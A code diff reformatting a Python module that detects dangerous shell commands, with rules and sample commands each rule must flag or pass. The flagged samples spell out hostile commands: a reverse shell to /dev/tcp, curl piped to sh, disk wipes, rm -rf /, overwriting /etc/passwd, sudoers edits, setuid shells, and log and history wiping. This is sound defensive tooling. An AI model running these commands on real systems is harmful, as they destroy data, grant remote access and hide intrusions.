 # verbs that destroy only for one tool (elsewhere the same word is harmless)
 _TOOL_VERBS = {"vault": ("disable",), "gh": ("archive",), "borg": ("compact",), "aws": ("unsubscribe",)}
 _DESTROY_FLAG = re.compile(r"^--(delete|delete-[\w-]+|remove|purge|force-delete)$")
-_DESTROY_VERB = re.compile(r"^(delete|destroy|remove|rm|rb|purge|prune|terminate|uninstall|unregister|unpublish|deprecate|yank|"
-                           r"forget|undefine|drop|wipe|erase|flush|revoke|rmdir|delete[-_][\w-]+|destroy[-_][\w-]+|terminate[-_][\w-]+|"
-                           r"remove[-_][\w-]+|deregister[-_][\w-]+|purge[-_][\w-]+|clear[-_][\w-]+|[\w]+-delete|rdelete|deletefile|unset|del|"
-                           r"[\w-]+:(delete|destroy|remove|rm|unset|detach|disable|kill|reset|leave|stop)|(secret|env|config):unset)$")
+_DESTROY_VERB = re.compile(
+    r"^(delete|destroy|remove|rm|rb|purge|prune|terminate|uninstall|unregister|unpublish|deprecate|yank|"
+    r"forget|undefine|drop|wipe|erase|flush|revoke|rmdir|delete[-_][\w-]+|destroy[-_][\w-]+|terminate[-_][\w-]+|"
+    r"remove[-_][\w-]+|deregister[-_][\w-]+|purge[-_][\w-]+|clear[-_][\w-]+|[\w]+-delete|rdelete|deletefile|unset|del|"
+    r"[\w-]+:(delete|destroy|remove|rm|unset|detach|disable|kill|reset|leave|stop)|(secret|env|config):unset)$"
+)
 
 
 def remote_delete(cmd: Cmd, ctx: Ctx) -> str | None:
@@ -651,11 +829,16 @@ def remote_delete(cmd: Cmd, ctx: Ctx) -> str | None:
     if name not in _REMOTE_CLIS and not name.startswith("kafka-"):
         return None
     if re.search(r"-(delete|destroy|purge)(-|$)", name):
-        return name             # kafka-delete-records
+        return name  # kafka-delete-records
     verb = next((o for o in cmd.operands[:4] if _DESTROY_VERB.match(o.lower()) or o in _TOOL_VERBS.get(name, ())), None)
     if verb is None:
         verb = next((a for a in cmd.args if _DESTROY_FLAG.match(a.split("=", 1)[0])), None)
-    if verb is None and name == "gh" and any(a.startswith("--visibility") for a in cmd.args) and "public" in " ".join(cmd.args):
+    if (
+        verb is None
+        and name == "gh"
+        and any(a.startswith("--visibility") for a in cmd.args)
+        and "public" in " ".join(cmd.args)
+    ):
         verb = "--visibility public (publishes the repository)"
     if verb is None:
         return None
@@ -667,17 +850,28 @@ def http_delete(cmd: Cmd, ctx: Ctx) -> str | None:
         for k, a in enumerate(cmd.args):
             if a in ("-X", "--request", "--method") and k + 1 < len(cmd.args) and cmd.args[k + 1].upper() == "DELETE":
                 return next((o for o in cmd.operands if "://" in o or o.startswith(("localhost", "http"))), "a URL")
-            if a.upper() in ("-XDELETE", "--REQUEST=DELETE", "DELETE") and cmd.name in ("curl", "http", "https", "xh", "wget"):
+            if a.upper() in ("-XDELETE", "--REQUEST=DELETE", "DELETE") and cmd.name in (
+                "curl",
+                "http",
+                "https",
+                "xh",
+                "wget",
+            ):
                 return next((o for o in cmd.operands if "://" in o), "a URL")
         # a POST to an endpoint named for deleting (`…/doDelete`, `…/destroy`)
         url = next((o for o in cmd.operands if "://" in o), "")
-        if re.search(r"(?i)/(do)?(delete|destroy|purge|wipe)(\b|[/?])", url) and any(a.upper() in ("POST", "-XPOST") for a in cmd.args):
+        if re.search(r"(?i)/(do)?(delete|destroy|purge|wipe)(\b|[/?])", url) and any(
+            a.upper() in ("POST", "-XPOST") for a in cmd.args
+        ):
             return url
     return None
 
 
 def sync_delete(cmd: Cmd, ctx: Ctx) -> str | None:
-    if cmd.name in ("rsync", "rclone", "aws", "gsutil", "s3cmd", "mc") and any(a.startswith(("--delete", "--del")) or a in ("--remove-source-files", "-d") and cmd.name != "aws" for a in cmd.args):
+    if cmd.name in ("rsync", "rclone", "aws", "gsutil", "s3cmd", "mc") and any(
+        a.startswith(("--delete", "--del")) or a in ("--remove-source-files", "-d") and cmd.name != "aws"
+        for a in cmd.args
+    ):
         return cmd.operands[-1] if cmd.operands else "the destination"
     if cmd.name == "rclone" and cmd.operands[:1] in (["purge"], ["sync"]):
         return cmd.operands[-1]
@@ -689,12 +883,25 @@ def network_down(cmd: Cmd, ctx: Ctx) -> str | None:
         return "ifconfig … down"
     if cmd.name in ("ip",) and "link" in cmd.operands and "down" in cmd.operands:
         return "ip link … down"
-    if cmd.name == "ip" and "route" in cmd.operands[:2] and any(x in ("flush", "del", "delete") for x in cmd.operands) \
-            or cmd.name == "route" and any(x in ("del", "delete", "flush") for x in cmd.operands) and "default" in " ".join(cmd.operands + ["default"]):
+    if (
+        cmd.name == "ip"
+        and "route" in cmd.operands[:2]
+        and any(x in ("flush", "del", "delete") for x in cmd.operands)
+        or cmd.name == "route"
+        and any(x in ("del", "delete", "flush") for x in cmd.operands)
+        and "default" in " ".join(cmd.operands + ["default"])
+    ):
         return "removes network routes"
     if cmd.name in ("ifdown", "nmcli") and (cmd.name == "ifdown" or "off" in cmd.operands or "down" in cmd.operands):
         return cmd.name
-    if cmd.name in ("systemctl", "service") and any(a in ("stop", "disable", "mask") for a in cmd.operands) and any(re.match(r"(NetworkManager|networking|network|systemd-networkd|sshd?|wpa_supplicant)(\.service)?$", a) for a in cmd.operands):
+    if (
+        cmd.name in ("systemctl", "service")
+        and any(a in ("stop", "disable", "mask") for a in cmd.operands)
+        and any(
+            re.match(r"(NetworkManager|networking|network|systemd-networkd|sshd?|wpa_supplicant)(\.service)?$", a)
+            for a in cmd.operands
+        )
+    ):
         return "the network or SSH service"
     return None
 
@@ -712,14 +919,24 @@ def runs_as_root(cmd: Cmd, ctx: Ctx) -> str | None:
 
 
 def kill_pid(cmd: Cmd, ctx: Ctx) -> str | None:
-    if cmd.name in ("kill", "pkill", "killall") and _signal(cmd) not in _HARMLESS_SIGNALS and (cmd.has("9", "KILL") or "-SIGKILL" in cmd.args or "SIGKILL" in cmd.args):
+    if (
+        cmd.name in ("kill", "pkill", "killall")
+        and _signal(cmd) not in _HARMLESS_SIGNALS
+        and (cmd.has("9", "KILL") or "-SIGKILL" in cmd.args or "SIGKILL" in cmd.args)
+    ):
         return " ".join(cmd.operands) or "processes"
     return None
 
 
 def overwrite_dotfile(cmd: Cmd, ctx: Ctx) -> str | None:
     def dot(p: str) -> bool:
-        return bool(re.fullmatch(r"(~|\$HOME|\$\{HOME\})/\.(bashrc|zshrc|profile|bash_profile|zprofile|ssh/authorized_keys|ssh/id_\w+|ssh/config|gitconfig)", P.normalise(p)))
+        return bool(
+            re.fullmatch(
+                r"(~|\$HOME|\$\{HOME\})/\.(bashrc|zshrc|profile|bash_profile|zprofile|ssh/authorized_keys|ssh/id_\w+|ssh/config|gitconfig)",
+                P.normalise(p),
+            )
+        )
+
     t = _writes_to(cmd, dot, append_ok=True)
     if t:
         return t
@@ -729,123 +946,521 @@ def overwrite_dotfile(cmd: Cmd, ctx: Ctx) -> str | None:
 
 
 def package_remove_core(cmd: Cmd, ctx: Ctx) -> str | None:
-    core = {"libc6", "glibc", "bash", "coreutils", "systemd", "sudo", "apt", "dpkg", "rpm", "yum", "dnf", "python3", "openssh-server", "linux-image", "grub", "grub2", "kernel", "util-linux", "login", "passwd"}
-    if cmd.name in ("apt", "apt-get", "yum", "dnf", "zypper", "pacman", "apk", "dpkg", "rpm") and any(a in ("remove", "purge", "erase", "autoremove", "del", "-R", "-Rns", "-Rs", "-e", "-P", "-r") for a in cmd.args):
+    core = {
+        "libc6",
+        "glibc",
+        "bash",
+        "coreutils",
+        "systemd",
+        "sudo",
+        "apt",
+        "dpkg",
+        "rpm",
+        "yum",
+        "dnf",
+        "python3",
+        "openssh-server",
+        "linux-image",
+        "grub",
+        "grub2",
+        "kernel",
+        "util-linux",
+        "login",
+        "passwd",
+    }
+    if cmd.name in ("apt", "apt-get", "yum", "dnf", "zypper", "pacman", "apk", "dpkg", "rpm") and any(
+        a in ("remove", "purge", "erase", "autoremove", "del", "-R", "-Rns", "-Rs", "-e", "-P", "-r") for a in cmd.args
+    ):
         return next((o for o in cmd.operands if o in core or o.startswith("linux-image")), None)
     return None
 
 
 RULES: tuple[Rule, ...] = (
-    Rule("rm-root-home-system", "delete", CRITICAL, "deletes {} and everything under it: the system or your home would be destroyed",
-         rm_everything,
-         ("rm -rf /", "rm -rf /*", "rm -rf ~", "rm -rf $HOME", 'rm -rf "$HOME/"', "rm --recursive --force /", "rm -r -f /usr",
-          "rm -rf /etc", "rm -rf --no-preserve-root /", "rm -fr ~/", "rm -Rf /home", "rm -rf /.."),
-         ("rm -rf /tmp/cache", "rm -rf ./target", "rm -rf node_modules", "rm ~/notes.txt", "rm -rf ~/project/build")),
-    Rule("rm-system-files", "delete", HIGH, "deletes {}, which belongs to the operating system", rm_system_files,
-         ("rm -rf /usr/lib/python3", "rm /etc/nginx/nginx.conf", "rm -rf /var/lib/dpkg"),
-         ("rm -rf /tmp/x", "rm build.log", "rm -rf /var/tmp/cache")),
-    Rule("rm-everything-here", "delete", HIGH, "deletes {}: everything in the current directory (or an unset variable would make it /)",
-         rm_all_here, ("rm -rf *", "rm -rf .", "rm -rf ./*", 'rm -rf "$DIR"/*', "rm -rf $BUILD/", "rm -rf .."),
-         ("rm -rf ./target", "rm *.log", "rm -rf $BUILD/out")),
-    Rule("rm-recursive", "delete", MODERATE, "permanently deletes {} and everything in it", rm_recursive,
-         ("rm -rf ./target", "rm -rf node_modules", "rm -r build"), ("rm file.txt", "rmdir empty")),
-    Rule("find-delete-everything", "delete", CRITICAL, "find deletes every file under {}", find_delete_everywhere,
-         ("find / -delete", "find ~ -delete", "find / -exec rm -rf {} \\;", "find /etc -delete"),
-         ("find . -name '*.pyc' -delete", "find / -name core")),
-    Rule("find-delete-wide", "delete", HIGH, "find deletes matching files across {}", find_delete_wide,
-         ("find / -name '*.log' -delete", "find . -delete", "find ~ -type f -name '*.tmp' -exec rm {} +"),
-         ("find . -name '*.pyc' -delete", "find /tmp -mtime +7 -delete")),
-    Rule("find-delete", "delete", MODERATE, "find deletes {}", find_delete, ("find . -name '*.pyc' -delete",), ("find . -name x",)),
-    Rule("disk-wipe", "disk", CRITICAL, "erases the disk {}: all data on it is lost", disk_wipe,
-         ("dd if=/dev/zero of=/dev/sda", "dd if=/dev/urandom of=/dev/nvme0n1 bs=1M", "cat /dev/urandom > /dev/sda",
-          "shred -n 3 /dev/sdb", "echo x > /dev/disk2", "diskutil eraseDisk JHFS+ X disk2"),
-         ("dd if=/dev/zero of=disk.img bs=1M count=10", "echo hi > /dev/null", "ls /dev/sda*")),
-    Rule("disk-write", "disk", HIGH, "writes directly to the device {}: whatever is on it is replaced", disk_write,
-         ("dd if=ubuntu.iso of=/dev/sdb bs=4M", "mkfs.vfat /dev/sdc1", "mkfs.ext4 /dev/nvme0n1p2", "wipefs -a /dev/sdb",
-          "fdisk /dev/sda", "parted /dev/sdb mklabel gpt", "dd if=x.img of=/dev/disk2"),
-         ("mkfs.vfat disk.img", "fdisk -l", "parted -l", "dd if=/dev/sda of=backup.img")),
-    Rule("mkfs-image", "disk", MODERATE, "formats {} (an image file): its current contents are replaced", mkfs_file,
-         ("mkfs.vfat disk.img", "mkfs.ext4 -F fs.img"), ("mkfs.vfat /dev/sdc1",)),
-    Rule("chmod-system", "permissions", CRITICAL, "changes ownership or permissions of everything under {}: the system or your home may stop working",
-         chmod_system, ("chmod -R 777 /", "chown -R nobody /", "chmod -R 000 ~", "chmod --recursive 755 /usr", "chown -R me:me /etc"),
-         ("chmod 755 deploy.sh", "chmod -R 755 ./public", "chown -R me ./app")),
-    Rule("chmod-wide", "permissions", HIGH, "changes permissions of {} broadly (system files or world-writable)", chmod_wide,
-         ("chmod 777 /", "chmod -R 777 .", "chmod 777 /etc", "chmod -R 777 uploads", "chown root /usr"),
-         ("chmod +x run.sh", "chmod 644 notes.txt", "chmod -R 755 ./public")),
-    Rule("setuid-shell", "permissions", CRITICAL, "makes {} setuid: anyone could get a root shell", setuid_shell,
-         ("chmod u+s /bin/bash", "chmod 4755 /bin/sh", "chmod +s /usr/bin/python3"), ("chmod u+x /bin/mytool", "chmod 755 /bin/sh")),
-    Rule("overwrite-auth", "system-config", CRITICAL, "overwrites or deletes {}: logins and sudo would break", overwrite_auth,
-         ("echo root::0:0::: > /etc/passwd", "cat x > /etc/shadow", "rm /etc/sudoers", "cp evil /etc/passwd", "echo x | tee /etc/sudoers"),
-         ("cat /etc/passwd", "grep root /etc/passwd", "cp /etc/passwd ./passwd.bak")),
-    Rule("edit-system-config", "system-config", HIGH, "changes {}, a file the system depends on", overwrite_system_config,
-         ("echo 1.2.3.4 x > /etc/hosts", "echo 'me ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "sed -i s/a/b/ /etc/fstab", "echo x | tee -a /etc/sudoers"),
-         ("cat /etc/hosts", "echo x >> notes.txt")),
-    Rule("core-file-write", "system-config", CRITICAL, "changes {}, a file logins, the shell or booting depend on", core_write,
-         ("truncate -s 0 /bin/bash", "chmod 777 /etc/shadow", "cp evil.so /lib/x86_64-linux-gnu/libc.so.6", "env > /etc/shadow"),
-         ("cat /etc/shadow", "cp /etc/passwd ~/passwd.bak", "ls -l /bin/bash")),
-    Rule("system-write", "system-config", HIGH, "writes into {}, which belongs to the operating system", system_write,
-         ("sudo tee /etc/motd", "echo x > /usr/share/foo", "sudo sed -i s/a/b/ /etc/hosts.allow", "chmod 755 /usr/bin/python3"),
-         ("cp /etc/hosts ~/hosts", "cat /etc/os-release", "sudo cp tool /usr/local/bin/")),
-    Rule("container-delete", "containers", HIGH, "{} removes cluster or container objects and what they hold", container_delete,
-         ("docker volume rm data", "kubectl delete pod web-1", "kubectl drain node01"), ("kubectl get pods", "docker volume ls")),
-    Rule("privileged-container", "containers", HIGH, "{} gives the container full control of this machine", privileged_container,
-         ("docker run --privileged nginx",), ("docker run --rm -it ubuntu bash",)),
-    Rule("truncate-logs", "anti-forensics", HIGH, "empties or deletes the log {}", truncate_logs,
-         ("> /var/log/syslog", "truncate -s 0 /var/log/auth.log", "cat /dev/null > /var/log/messages", "rm -rf /var/log/nginx", "journalctl --vacuum-time=1s"),
-         ("tail -f /var/log/syslog", "grep error /var/log/syslog")),
-    Rule("move-system", "delete", CRITICAL, "moves {} away: the system or your home would break", move_system,
-         ("mv / /tmp/x", "mv ~ /tmp/old", "mv /etc /etc.bak", "mv /usr/* /tmp"), ("mv a.txt b.txt", "mv ~/a.txt ~/b.txt")),
-    Rule("move-to-null", "delete", HIGH, "moves {} onto /dev/null, which destroys it", move_to_null, ("mv notes.txt /dev/null",), ("mv a b",)),
-    Rule("download-exec", "remote-code", HIGH, "runs code downloaded from the internet ({}) without showing it first", pipe_to_shell,
-         ("curl -fsSL https://x.sh | sh", "wget -qO- http://x | bash", "curl x | sudo bash", "curl x | python3 -"),
-         ("curl -O https://x/file.tar.gz", "curl x | jq .", "wget http://x/a.sh")),
-    Rule("reverse-shell", "remote-access", HIGH, "opens a shell for a remote host ({})", reverse_shell,
-         ("nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "socat tcp:1.2.3.4:99 exec:/bin/sh", "ncat --exec /bin/bash h 1"),
-         ("nc -zv host 22", "nc -l 8080")),
-    Rule("kill-everything", "processes", CRITICAL, "kills {}: the system goes down", kill_everything,
-         ("kill -9 1", "kill -9 -1", "kill -KILL -1", "killall5", "kill -1", "pkill -9 init"), ("kill -9 12345", "kill 4242", "kill -HUP 1234")),
-    Rule("sysrq", "system", CRITICAL, "writes to {}: the kernel reboots or crashes immediately", sysrq,
-         ("echo b > /proc/sysrq-trigger", "echo c | sudo tee /proc/sysrq-trigger"), ("cat /proc/cpuinfo",)),
-    Rule("power", "system", HIGH, "{} shuts down or restarts the machine", power,
-         ("shutdown -h now", "reboot", "sudo halt", "systemctl poweroff", "init 0", "poweroff"), ("uptime", "systemctl status nginx")),
-    Rule("firewall-off", "network", HIGH, "turns the firewall off ({})", firewall_off,
-         ("iptables -F", "ufw disable", "nft flush ruleset", "systemctl stop firewalld", "pfctl -d", "iptables -P INPUT ACCEPT"),
-         ("iptables -L", "ufw status", "ufw allow 22")),
-    Rule("history-wipe", "anti-forensics", HIGH, "{} erases your history or scheduled jobs for good", history_wipe,
-         ("history -c", "crontab -r", "unset HISTFILE"), ("history", "crontab -l", "crontab -e")),
-    Rule("git-destructive", "git", HIGH, "{} throws away work that may not be saved anywhere else", git_destructive,
-         ("git push --force", "git push -f origin main", "git reset --hard HEAD~1", "git clean -fdx", "git push origin +main", "git checkout -- .", "git branch -D feature"),
-         ("git push", "git status", "git reset --soft HEAD~1", "git clean -n", "git commit -m 'rm -rf /'")),
-    Rule("container-mass-delete", "containers", HIGH, "{} deletes many containers, images or cluster objects at once", container_mass_delete,
-         ("docker system prune -a", "docker rm -f $(docker ps -aq)", "docker volume prune -f", "kubectl delete pods --all", "kubectl delete namespace prod"),
-         ("docker ps -a", "docker rm web1", "kubectl get pods", "kubectl delete pod web-1")),
-    Rule("sql-destructive", "database", HIGH, "runs `{}`, which deletes data in the database", sql_destructive,
-         ("mysql -e 'DROP DATABASE shop'", "psql -c 'TRUNCATE users'", "dropdb shop", "redis-cli FLUSHALL", "psql -c 'DELETE FROM users;'"),
-         ("psql -c 'SELECT 1'", "mysql -e 'SHOW DATABASES'", "psql -c 'DELETE FROM users WHERE id=1'")),
-    Rule("security-off", "system", HIGH, "turns off a security protection ({})", selinux_off,
-         ("setenforce 0", "csrutil disable", "sudo spctl --master-disable", "xattr -cr /"), ("getenforce", "xattr -l file", "xattr -cr ./MyApp.app")),
-    Rule("windows-wipe", "delete", CRITICAL, "{} wipes a Windows drive or system folder", windows_wipe,
-         (), ()),
-    Rule("cloud-destroy", "cloud", HIGH, "{} deletes cloud resources or data", cloud_destroy,
-         ("terraform destroy", "aws s3 rm s3://bucket --recursive", "gsutil rm -r gs://b"), ("terraform plan", "aws s3 ls")),
-    Rule("user-delete", "accounts", HIGH, "removes the account or password of {}", user_delete, ("userdel -r bob", "passwd -d root"), ("id bob",)),
-    Rule("remove-core-package", "packages", HIGH, "removes {}, a package the system needs to run", package_remove_core,
-         ("apt remove coreutils", "sudo apt-get purge sudo", "yum remove systemd"), ("apt remove vim",)),
-    Rule("overwrite-dotfile", "delete", HIGH, "overwrites or deletes {}", overwrite_dotfile,
-         ("echo x > ~/.bashrc", "rm ~/.ssh/id_rsa", "cat k > ~/.ssh/authorized_keys"), ("echo x >> ~/.bashrc", "cat ~/.bashrc")),
-    Rule("remote-delete", "cloud", HIGH, "{} deletes remote resources or data, usually for good", remote_delete,
-         ("aws secretsmanager delete-secret --secret-id x", "gh repo delete o/r", "helm uninstall web", "rclone purge r:b", "vgremove vg1",
-          "heroku apps:destroy", "vault kv delete secret/x", "npm unpublish pkg", "gcloud compute instances delete vm1"),
-         ("aws s3 ls", "gh repo view", "helm list", "npm install", "gcloud config list")),
-    Rule("http-delete", "cloud", HIGH, "sends an HTTP DELETE to {}", http_delete,
-         ("curl -X DELETE http://localhost:9200/logs", "curl --request DELETE https://api/x/1"), ("curl -X GET http://x", "curl http://x")),
-    Rule("sync-delete", "delete", HIGH, "deletes files in {} that are not in the source", sync_delete,
-         ("rsync -a --delete src/ dst/", "rclone sync /src remote:b --delete-excluded"), ("rsync -a src/ dst/",)),
-    Rule("network-down", "network", HIGH, "takes the network down ({}): a remote session would be cut off", network_down,
-         ("ifconfig eth0 down", "ip link set eth0 down", "sudo systemctl stop NetworkManager", "systemctl stop sshd"),
-         ("ip addr", "ifconfig", "systemctl status sshd")),
-    Rule("kill-9", "processes", MODERATE, "force-kills {} without letting it clean up", kill_pid, ("kill -9 12345", "pkill -9 node"), ("kill 12345",)),
-    Rule("as-root", "privilege", MODERATE, "runs with root privileges ({})", runs_as_root, ("sudo apt update",), ("apt list",)),
+    Rule(
+        "rm-root-home-system",
+        "delete",
+        CRITICAL,
+        "deletes {} and everything under it: the system or your home would be destroyed",
+        rm_everything,
+        (
+            "rm -rf /",
+            "rm -rf /*",
+            "rm -rf ~",
+            "rm -rf $HOME",
+            'rm -rf "$HOME/"',
+            "rm --recursive --force /",
+            "rm -r -f /usr",
+            "rm -rf /etc",
+            "rm -rf --no-preserve-root /",
+            "rm -fr ~/",
+            "rm -Rf /home",
+            "rm -rf /..",
+        ),
+        ("rm -rf /tmp/cache", "rm -rf ./target", "rm -rf node_modules", "rm ~/notes.txt", "rm -rf ~/project/build"),
+    ),
+    Rule(
+        "rm-system-files",
+        "delete",
+        HIGH,
+        "deletes {}, which belongs to the operating system",
+        rm_system_files,
+        ("rm -rf /usr/lib/python3", "rm /etc/nginx/nginx.conf", "rm -rf /var/lib/dpkg"),
+        ("rm -rf /tmp/x", "rm build.log", "rm -rf /var/tmp/cache"),
+    ),
+    Rule(
+        "rm-everything-here",
+        "delete",
+        HIGH,
+        "deletes {}: everything in the current directory (or an unset variable would make it /)",
+        rm_all_here,
+        ("rm -rf *", "rm -rf .", "rm -rf ./*", 'rm -rf "$DIR"/*', "rm -rf $BUILD/", "rm -rf .."),
+        ("rm -rf ./target", "rm *.log", "rm -rf $BUILD/out"),
+    ),
+    Rule(
+        "rm-recursive",
+        "delete",
+        MODERATE,
+        "permanently deletes {} and everything in it",
+        rm_recursive,
+        ("rm -rf ./target", "rm -rf node_modules", "rm -r build"),
+        ("rm file.txt", "rmdir empty"),
+    ),
+    Rule(
+        "find-delete-everything",
+        "delete",
+        CRITICAL,
+        "find deletes every file under {}",
+        find_delete_everywhere,
+        ("find / -delete", "find ~ -delete", "find / -exec rm -rf {} \\;", "find /etc -delete"),
+        ("find . -name '*.pyc' -delete", "find / -name core"),
+    ),
+    Rule(
+        "find-delete-wide",
+        "delete",
+        HIGH,
+        "find deletes matching files across {}",
+        find_delete_wide,
+        ("find / -name '*.log' -delete", "find . -delete", "find ~ -type f -name '*.tmp' -exec rm {} +"),
+        ("find . -name '*.pyc' -delete", "find /tmp -mtime +7 -delete"),
+    ),
+    Rule(
+        "find-delete",
+        "delete",
+        MODERATE,
+        "find deletes {}",
+        find_delete,
+        ("find . -name '*.pyc' -delete",),
+        ("find . -name x",),
+    ),
+    Rule(
+        "disk-wipe",
+        "disk",
+        CRITICAL,
+        "erases the disk {}: all data on it is lost",
+        disk_wipe,
+        (
+            "dd if=/dev/zero of=/dev/sda",
+            "dd if=/dev/urandom of=/dev/nvme0n1 bs=1M",
+            "cat /dev/urandom > /dev/sda",
+            "shred -n 3 /dev/sdb",
+            "echo x > /dev/disk2",
+            "diskutil eraseDisk JHFS+ X disk2",
+        ),
+        ("dd if=/dev/zero of=disk.img bs=1M count=10", "echo hi > /dev/null", "ls /dev/sda*"),
+    ),
+    Rule(
+        "disk-write",
+        "disk",
+        HIGH,
+        "writes directly to the device {}: whatever is on it is replaced",
+        disk_write,
+        (
+            "dd if=ubuntu.iso of=/dev/sdb bs=4M",
+            "mkfs.vfat /dev/sdc1",
+            "mkfs.ext4 /dev/nvme0n1p2",
+            "wipefs -a /dev/sdb",
+            "fdisk /dev/sda",
+            "parted /dev/sdb mklabel gpt",
+            "dd if=x.img of=/dev/disk2",
+        ),
+        ("mkfs.vfat disk.img", "fdisk -l", "parted -l", "dd if=/dev/sda of=backup.img"),
+    ),
+    Rule(
+        "mkfs-image",
+        "disk",
+        MODERATE,
+        "formats {} (an image file): its current contents are replaced",
+        mkfs_file,
+        ("mkfs.vfat disk.img", "mkfs.ext4 -F fs.img"),
+        ("mkfs.vfat /dev/sdc1",),
+    ),
+    Rule(
+        "chmod-system",
+        "permissions",
+        CRITICAL,
+        "changes ownership or permissions of everything under {}: the system or your home may stop working",
+        chmod_system,
+        ("chmod -R 777 /", "chown -R nobody /", "chmod -R 000 ~", "chmod --recursive 755 /usr", "chown -R me:me /etc"),
+        ("chmod 755 deploy.sh", "chmod -R 755 ./public", "chown -R me ./app"),
+    ),
+    Rule(
+        "chmod-wide",
+        "permissions",
+        HIGH,
+        "changes permissions of {} broadly (system files or world-writable)",
+        chmod_wide,
+        ("chmod 777 /", "chmod -R 777 .", "chmod 777 /etc", "chmod -R 777 uploads", "chown root /usr"),
+        ("chmod +x run.sh", "chmod 644 notes.txt", "chmod -R 755 ./public"),
+    ),
+    Rule(
+        "setuid-shell",
+        "permissions",
+        CRITICAL,
+        "makes {} setuid: anyone could get a root shell",
+        setuid_shell,
+        ("chmod u+s /bin/bash", "chmod 4755 /bin/sh", "chmod +s /usr/bin/python3"),
+        ("chmod u+x /bin/mytool", "chmod 755 /bin/sh"),
+    ),
+    Rule(
+        "overwrite-auth",
+        "system-config",
+        CRITICAL,
+        "overwrites or deletes {}: logins and sudo would break",
+        overwrite_auth,
+        (
+            "echo root::0:0::: > /etc/passwd",
+            "cat x > /etc/shadow",
+            "rm /etc/sudoers",
+            "cp evil /etc/passwd",
+            "echo x | tee /etc/sudoers",
+        ),
+        ("cat /etc/passwd", "grep root /etc/passwd", "cp /etc/passwd ./passwd.bak"),
+    ),
+    Rule(
+        "edit-system-config",
+        "system-config",
+        HIGH,
+        "changes {}, a file the system depends on",
+        overwrite_system_config,
+        (
+            "echo 1.2.3.4 x > /etc/hosts",
+            "echo 'me ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
+            "sed -i s/a/b/ /etc/fstab",
+            "echo x | tee -a /etc/sudoers",
+        ),
+        ("cat /etc/hosts", "echo x >> notes.txt"),
+    ),
+    Rule(
+        "core-file-write",
+        "system-config",
+        CRITICAL,
+        "changes {}, a file logins, the shell or booting depend on",
+        core_write,
+        (
+            "truncate -s 0 /bin/bash",
+            "chmod 777 /etc/shadow",
+            "cp evil.so /lib/x86_64-linux-gnu/libc.so.6",
+            "env > /etc/shadow",
+        ),
+        ("cat /etc/shadow", "cp /etc/passwd ~/passwd.bak", "ls -l /bin/bash"),
+    ),
+    Rule(
+        "system-write",
+        "system-config",
+        HIGH,
+        "writes into {}, which belongs to the operating system",
+        system_write,
+        (
+            "sudo tee /etc/motd",
+            "echo x > /usr/share/foo",
+            "sudo sed -i s/a/b/ /etc/hosts.allow",
+            "chmod 755 /usr/bin/python3",
+        ),
+        ("cp /etc/hosts ~/hosts", "cat /etc/os-release", "sudo cp tool /usr/local/bin/"),
+    ),
+    Rule(
+        "container-delete",
+        "containers",
+        HIGH,
+        "{} removes cluster or container objects and what they hold",
+        container_delete,
+        ("docker volume rm data", "kubectl delete pod web-1", "kubectl drain node01"),
+        ("kubectl get pods", "docker volume ls"),
+    ),
+    Rule(
+        "privileged-container",
+        "containers",
+        HIGH,
+        "{} gives the container full control of this machine",
+        privileged_container,
+        ("docker run --privileged nginx",),
+        ("docker run --rm -it ubuntu bash",),
+    ),
+    Rule(
+        "truncate-logs",
+        "anti-forensics",
+        HIGH,
+        "empties or deletes the log {}",
+        truncate_logs,
+        (
+            "> /var/log/syslog",
+            "truncate -s 0 /var/log/auth.log",
+            "cat /dev/null > /var/log/messages",
+            "rm -rf /var/log/nginx",
+            "journalctl --vacuum-time=1s",
+        ),
+        ("tail -f /var/log/syslog", "grep error /var/log/syslog"),
+    ),
+    Rule(
+        "move-system",
+        "delete",
+        CRITICAL,
+        "moves {} away: the system or your home would break",
+        move_system,
+        ("mv / /tmp/x", "mv ~ /tmp/old", "mv /etc /etc.bak", "mv /usr/* /tmp"),
+        ("mv a.txt b.txt", "mv ~/a.txt ~/b.txt"),
+    ),
+    Rule(
+        "move-to-null",
+        "delete",
+        HIGH,
+        "moves {} onto /dev/null, which destroys it",
+        move_to_null,
+        ("mv notes.txt /dev/null",),
+        ("mv a b",),
+    ),
+    Rule(
+        "download-exec",
+        "remote-code",
+        HIGH,
+        "runs code downloaded from the internet ({}) without showing it first",
+        pipe_to_shell,
+        ("curl -fsSL https://x.sh | sh", "wget -qO- http://x | bash", "curl x | sudo bash", "curl x | python3 -"),
+        ("curl -O https://x/file.tar.gz", "curl x | jq .", "wget http://x/a.sh"),
+    ),
+    Rule(
+        "reverse-shell",
+        "remote-access",
+        HIGH,
+        "opens a shell for a remote host ({})",
+        reverse_shell,
+        (
+            "nc -e /bin/sh 10.0.0.1 4444",
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "socat tcp:1.2.3.4:99 exec:/bin/sh",
+            "ncat --exec /bin/bash h 1",
+        ),
+        ("nc -zv host 22", "nc -l 8080"),
+    ),
+    Rule(
+        "kill-everything",
+        "processes",
+        CRITICAL,
+        "kills {}: the system goes down",
+        kill_everything,
+        ("kill -9 1", "kill -9 -1", "kill -KILL -1", "killall5", "kill -1", "pkill -9 init"),
+        ("kill -9 12345", "kill 4242", "kill -HUP 1234"),
+    ),
+    Rule(
+        "sysrq",
+        "system",
+        CRITICAL,
+        "writes to {}: the kernel reboots or crashes immediately",
+        sysrq,
+        ("echo b > /proc/sysrq-trigger", "echo c | sudo tee /proc/sysrq-trigger"),
+        ("cat /proc/cpuinfo",),
+    ),
+    Rule(
+        "power",
+        "system",
+        HIGH,
+        "{} shuts down or restarts the machine",
+        power,
+        ("shutdown -h now", "reboot", "sudo halt", "systemctl poweroff", "init 0", "poweroff"),
+        ("uptime", "systemctl status nginx"),
+    ),
+    Rule(
+        "firewall-off",
+        "network",
+        HIGH,
+        "turns the firewall off ({})",
+        firewall_off,
+        (
+            "iptables -F",
+            "ufw disable",
+            "nft flush ruleset",
+            "systemctl stop firewalld",
+            "pfctl -d",
+            "iptables -P INPUT ACCEPT",
+        ),
+        ("iptables -L", "ufw status", "ufw allow 22"),
+    ),
+    Rule(
+        "history-wipe",
+        "anti-forensics",
+        HIGH,
+        "{} erases your history or scheduled jobs for good",
+        history_wipe,
+        ("history -c", "crontab -r", "unset HISTFILE"),
+        ("history", "crontab -l", "crontab -e"),
+    ),
+    Rule(
+        "git-destructive",
+        "git",
+        HIGH,
